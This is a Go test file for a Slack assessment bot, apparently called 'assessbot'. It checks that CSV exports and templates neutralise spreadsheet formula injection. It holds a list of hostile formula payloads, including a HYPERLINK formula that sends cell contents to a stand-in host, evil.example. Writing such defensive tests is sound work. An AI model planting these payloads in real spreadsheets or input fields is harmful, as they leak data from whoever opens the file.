package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/assessbot/assessbot/internal/assessment"
)

// hostile are open answers and comments a spreadsheet would run as
// formulas if they reached a cell unchanged.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1,"click")`,
	`+SUM(1,2)`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"\t=1+1",
}

// spreadsheetUnsafe returns the cells of a CSV that a spreadsheet would
// read as a formula: those beginning with =, +, -, @, tab or CR, except
// plain numbers in the columns numeric names (figures the bot formats).
func spreadsheetUnsafe(t *testing.T, name string, content []byte, numeric ...int) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(content))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s does not parse: %v\n%s", name, err, content)
	}
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	var bad []string
	for _, row := range rows {
		for i, c := range row {
			if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				continue
			}
			if slices.Contains(numeric, i) && number.MatchString(c) {
				continue
			}
			bad = append(bad, c)
		}
	}
	return bad
}

// Every CSV an export sends opens in a spreadsheet as data: open answers
// and comments that read as formulas are written with a quote before them
// (the OWASP rule), in the open answers and in the responses.
func TestExportsAreSafeInSpreadsheets(t *testing.T) {
	users := []string{"U1", "U2", "U3", "U4", "U5"}
	h := newHarness(t, users...)
	f, _ := mustCatalog(t).Get("cs-foundations")
	h.command(admin, leads, "start cs-foundations to "+mentionAll(users)+" digest <#CLEADS|x> due 3d now")
	rating, open := f.Sections[0].Questions[0].ID, f.Sections[0].Questions[1].ID
	for i, u := range users {
		h.click(u, h.waitDM(u, `"start"`), "start")
		h.waitDM(u, fmt.Sprintf("1/%d · ", len(f.Sections)))
		h.answerSection(u, f, 0, map[string]assessment.Answer{rating: plan(f, i, false)[rating], open: {Text: hostile[i]}})
		h.comment(u, rating, hostile[(i+1)%len(hostile)])
		h.wait(u+"'s answers", func() bool { return len(h.responses()[u]) >= 2 })
	}
	h.command(admin, leads, "close")
	h.told(admin, "posted the digest")
	h.command(admin, leads, "export")
	h.told(admin, "open answers and comments")
	numeric := map[string][]int{
		"-aggregates.csv":   {4, 5, 7, 8}, // score, divergence, answered, not_sure
		"-responses.csv":    {0},          // the respondent's number
		"-open-answers.csv": nil,
	}
	seen := 0
	for _, file := range h.slack.Files() {
		for suffix, cols := range numeric {
			if !strings.HasSuffix(file.Name, suffix) {
				continue
			}
			seen++
			if bad := spreadsheetUnsafe(t, file.Name, file.Content, cols...); len(bad) > 0 {
				t.Errorf("%s has cells a spreadsheet runs as formulas: %q", file.Name, bad)
			}
		}
	}
	if seen != len(numeric) {
		t.Fatalf("%d of the %d export files found: %+v", seen, len(numeric), h.slack.Files())
	}
	all := ""
	for _, file := range h.slack.Files() {
		all += string(file.Content)
	}
	if !strings.Contains(all, `'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")`) {
		t.Errorf("the neutralised open answer is not in the export: the test looks in the wrong place\n%s", all)
	}
}

// `assessbot frameworks template` opens in a spreadsheet as data too: a
// question text that holds a formula after a comma (a spreadsheet splits
// the comment lines at their commas) gets a quote before it.
func TestTemplateIsSafeInSpreadsheets(t *testing.T) {
	yaml := `id: hostile
title: "Hostile"
source: "assessbot tests"
sections:
  - id: one
    title: "One"
    questions:
      - {id: q1, text: 'Do we,=HYPERLINK("https://evil.example/?leak="&A1,"click")', scale: yesno}
      - {id: q2, text: 'Notes;@SUM(A1:A9),-2+3', scale: text}
`
	path := filepath.Join(t.TempDir(), "hostile.yaml")
	if err := writeFile(path, []byte(yaml)); err != nil {
		t.Fatal(err)
	}
	out := cliOK(t, "", "frameworks", "template", path)
	// A spreadsheet knows no comments: every line is a row, split at commas
	// (or semicolons), quotes as CSV has them.
	for _, sep := range []rune{',', ';'} {
		r := csv.NewReader(strings.NewReader(out))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("the template does not parse with %q: %v\n%s", sep, err, out)
		}
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("split at %q, the template has a cell a spreadsheet runs as a formula: %q\n%s", sep, c, out)
				}
			}
		}
	}
	if !strings.Contains(out, `'=HYPERLINK(`) {
		t.Errorf("the question text is not in the template: the test looks in the wrong place\n%s", out)
	}
}
